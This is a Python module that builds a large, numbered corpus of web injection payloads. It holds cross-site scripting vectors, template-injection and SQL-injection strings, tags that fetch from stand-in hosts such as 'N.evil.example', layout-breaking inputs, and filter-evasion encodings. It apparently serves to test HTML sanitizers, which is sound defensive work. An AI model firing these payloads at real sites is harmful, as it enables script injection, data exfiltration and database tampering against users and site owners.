# SPDX-License-Identifier: MIT
"""Texts made to act as a part of a page: vectors, each broken out of places and disguised.

A payload tells its number when it runs, ``__hit(7)``, or asks a host that names it,
``http://7.evil.example/``.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html import escape
from itertools import count, islice
from urllib.parse import quote

RUNNING = (
    "<script>JS</script>",
    "<script >JS</script x>",
    "<img src=x onerror=JS>",
    "<img src=x:x onerror=JS alt=''>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><g onload=JS></g></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set onbegin=JS attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<math><mtext><img src=x onerror=JS></mtext></math>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe src='javascript:parent.JS'></iframe>",
    "<iframe onload=JS></iframe>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<video><source src=x onerror=JS></video>",
    "<object data=x: onerror=JS></object>",
    "<input autofocus onfocus=JS>",
    "<textarea autofocus onfocus=JS></textarea>",
    "<select autofocus onfocus=JS></select>",
    "<xss autofocus tabindex=1 onfocus=JS>x</xss>",
    "<p contenteditable autofocus onfocus=JS>x</p>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<marquee onstart=JS>x</marquee>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=JS>x</p>",
    "<link rel=stylesheet href=x onerror=JS>",
)
"""What a browser runs at once where nobody looks after it."""

WAITING = (
    "<a href='javascript:JS'>x</a>",
    "<a href='&#1;java&#10;script:JS'>x</a>",
    "<a href='data:text/html,<script>JS</script>'>x</a>",
    "<a href='vbscript:JS'>x</a>",
    "<a href=x onclick=JS style='position:fixed;inset:0;font-size:900px'>x</a>",
    "<p onmouseover=JS style='position:fixed;inset:0;z-index:9'>x</p>",
    "<math href='javascript:JS'><mi>x</mi></math>",
    "<svg><a xlink:href='javascript:JS'><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:JS'/><text y=9>x</text></a></svg>",
    "<form action='javascript:JS'><button>x</button></form>",
    "<form id=q></form><button form=q formaction='javascript:JS'>x</button>",
    "<iframe sandbox srcdoc='<form action=URL><button>x</button></form>'></iframe>",
    "<dialog open onclose=JS><form method=dialog><button>x</button></form></dialog>",
    "<p id=__hit name=body>x</p><img name=getElementById>",
    "<template shadowrootmode=open><img src=x onerror=JS></template>",
    "<body onload=JS onpageshow=JS onresize=JS>",
    "<frameset onload=JS><frame src='javascript:JS'></frameset>",
    "<embed src='javascript:JS'>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;img src=x onerror=JS&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=JS>'>",
    "<!--><img src=x onerror=JS>-->",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "<?xml-stylesheet href='javascript:JS'?>",
    "<xml><i><b><![CDATA[x]]></b></i></xml><img src=x onerror=JS>",
    "{{7*7}}{{config}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('JS')()}}",
    "%(count)s %s {0} {0.__class__} $(JS) `JS`",
    "'; DROP TABLE messages; -- \" OR 1=1 UNION SELECT JS",
    "javascript:JS//https://a.example/",
    "https://a.example/'onmouseover='JS'//",
    'https://a.example/"onmouseover="JS"',
    "http://a.example/<img src=x onerror=JS>",
    "www.example.cz/<svg/onload=JS> javascript://example.cz/%0aJS",
    "a@b.example<script>JS</script>@c.example",
    "mailto:a@b.example?body=<script>JS</script>&cc=%0d%0aBcc:x@y.example",
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "\u202e>tpircs/<JS>tpircs<\u2066",
    "\u2028JS\u2029<img\u00a0src=x\u00a0onerror=JS>",
)
"""What waits for a click, for a careless parser or for a template."""

ASKING = (
    "<script src=URL></script>",
    "<script type=module>import 'URL'</script>",
    "<img src=URL>",
    "<img srcset='URL 2x'>",
    "<img src=x style='content:url(URL)'>",
    "<picture><source srcset=URL><img></picture>",
    "<input type=image src=URL>",
    "<body background=URL>",
    "<table background=URL><tr><td background=URL>x</table>",
    "<p style='background:url(URL)'>x</p>",
    "<style>@import 'URL';*{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    "<link rel=stylesheet href=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=prefetch href=URL>",
    "<link rel=preconnect href=URL>",
    "<link rel=dns-prefetch href=URL>",
    "<link rel=modulepreload href=URL>",
    "<link rel=manifest href=URL><link rel=icon href=URL>",
    "<iframe src=URL></iframe>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<video src=URL poster=URL autoplay></video>",
    "<audio src=URL autoplay></audio>",
    "<video><track default src=URL></video>",
    "<svg><image href=URL /><use href='URL#x'/><feImage href=URL /></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=Content-Security-Policy content='img-src *; report-uri URL'><img src=x>",
    "<base href=URL><img src=x><script src=x></script>",
    "<base target=_top><a href=URL>x</a>",
    "<a href=URL ping=URL>x</a>",
    "<form action=URL><input name=q value=x><button>x</button></form>",
    "<frameset><frame src=URL></frameset>",
    "<applet archive=URL code=x></applet>",
    "<portal src=URL></portal><fencedframe src=URL></fencedframe>",
)
"""What would be fetched from elsewhere, at once or by a click."""

SPREADING = (
    "W" * 700,
    "<b>" + "W" * 600,
    "<pre>" + "x" * 800 + "</pre>",
    "<h1 style='font-size:999px'>x</h1>",
    "<table width=9000><tr><td width=9000 nowrap>x</table>",
    "<table><tr>" + "<td>xxxxxxxx" * 40 + "</table>",
    "<p style='margin-left:-9999px;width:99999px'>x</p>",
    "<img width=9999 height=9999 alt='" + "W" * 300 + "'>",
    "<hr width=9999><blockquote>" * 20,
    "<ul>" * 60 + "<li>x",
    "</div></div></article></main></body></html><div>x",
    "</p></dd></dl></section></table></form><h1>x",
    "<bdo dir=rtl>" + "x" * 300,
    "z" + "\u0335\u0321\u0301" * 200,
    "\u202e\u2067" * 50 + "x",
    "\ufdfd" * 200,
    "https://example.cz/" + "w" * 600,
)
"""What would leave its place on the page."""

VECTORS = RUNNING + WAITING + ASKING + SPREADING
BREAKOUTS = ("", "\"'>", "</title></textarea></select>", "</script></style></noscript>-->")
"""What ends the place in which a text may stand."""

RESET = (
    "-->]]>\"'></title></textarea></style></script></noscript></xmp></noembed></iframe></svg></math>"
    "</select></template></object></video></audio></frameset></table></table>"
)
"""What ends whatever a payload opened, so that the next one begins where it means to."""

_TAG = re.compile(r"</?[a-z]+|\bon[a-z]+=")


def _swapped(text: str) -> str:
    return _TAG.sub(lambda found: found[0].swapcase(), text)


def _slashed(text: str) -> str:
    return re.sub(r"(<[a-z]+) ", r"\1/\t", text)


def _as_entities(text: str) -> str:
    script = re.search(r"__hit\(\d+\)", text)
    return text.replace(script[0], "".join(f"&#{ord(s)};" for s in script[0])) if script else text


def _wide(text: str) -> str:
    return text.translate({ord(sign): ord(sign) + 0xFEE0 for sign in "<>'\"=/"})


DISGUISES: tuple[Callable[[str], str], ...] = (
    _swapped,
    _slashed,
    _as_entities,
    _wide,
    escape,
    quote,
    lambda text: text.rstrip(">/"),
)


def filled(vector: str, number: int) -> str:
    """Return a vector that tells this number."""
    return vector.replace("JS", f"__hit({number})").replace("URL", f"http://{number}.evil.example/")


def _payloads() -> Iterator[str]:
    numbers = count()
    for place, vector in enumerate(VECTORS):
        for breakout in BREAKOUTS:
            yield breakout + filled(vector, next(numbers))
        for turn in range(2):
            disguise = DISGUISES[(place + 3 * turn) % len(DISGUISES)]
            yield disguise(filled(vector, next(numbers)))


PAYLOADS = tuple(_payloads())


def batches(size: int) -> Iterator[tuple[str, ...]]:
    """Yield the payloads, some at a time."""
    rest = iter(PAYLOADS)
    return iter(lambda: tuple(islice(rest, size)), ())
